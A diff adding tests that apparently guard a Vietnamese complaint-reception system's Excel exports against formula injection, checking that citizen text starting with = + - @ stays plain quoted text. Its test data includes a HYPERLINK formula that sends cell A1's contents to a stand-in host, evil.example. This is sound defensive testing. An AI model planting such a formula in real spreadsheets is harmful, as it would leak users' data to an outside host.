@@ -46,3 +46,35 @@ def test_reception_book_hides_protected_identities():
     first = 9
     assert ws.cell(row=first, column=9).value == "x" and ws.cell(row=first + 1, column=10).value == "x"
     assert ws.cell(row=first + 1, column=7).value == 6
+
+
+INJECTED = ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+84 Phố A", "-2+3", "@SUM(1,2)", "=1+1")
+
+
+def _text_cells(ws):
+    return [c for row in ws.iter_rows(min_row=9) for c in row if isinstance(c.value, str)]
+
+
+def test_citizen_text_is_never_a_formula_in_the_book():
+    """A name, address, summary or note typed by a citizen and starting with = + - @ stays the text typed: a string
+    cell (openpyxl made "=..." a formula), with Excel's quote prefix so that editing it does not evaluate it."""
+    name, address, summary, note, other = INJECTED
+    rows = [BookRow(day=date(2026, 8, 6), name=name, address=address, summary=summary, note=note,
+                    resolved_by=other)]
+    ws = open_book(reception_book_workbook(rows, unit_name="Sở", first=date(2026, 8, 1), last=date(2026, 8, 31)))
+    cells = _text_cells(ws)
+    assert not [(c.coordinate, c.value) for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert {c.value for c in cells} >= {f"{name}, {address}", summary, note, other}
+    assert all(c.quotePrefix for c in cells if c.value.startswith(xlsx.FORMULA_STARTS))
+
+
+def test_citizen_text_is_never_a_formula_in_a_case_list():
+    cols = [xlsx.Col("STT", "int"), xlsx.Col("Trích yếu", "text"), xlsx.Col("Số người", "int")]
+    rows = [[i, text, 2] for i, text in enumerate((*INJECTED, "#N/A", "Khiếu nại thường"), start=1)]
+    ws = open_book(xlsx.table_workbook(title="Danh sách hồ sơ", period_line="", unit_name="Đơn vị", columns=cols,
+                                       rows=rows))
+    first = 8  # one header row and the row of column numbers
+    cells = [ws.cell(row=first + i, column=2) for i in range(len(rows))]
+    assert [c.value for c in cells] == [r[1] for r in rows] and {c.data_type for c in cells} == {"s"}
+    assert ws.cell(row=first, column=3).data_type == "n"  # numbers stay numbers
+    assert not cells[-1].quotePrefix  # ordinary text carries no prefix
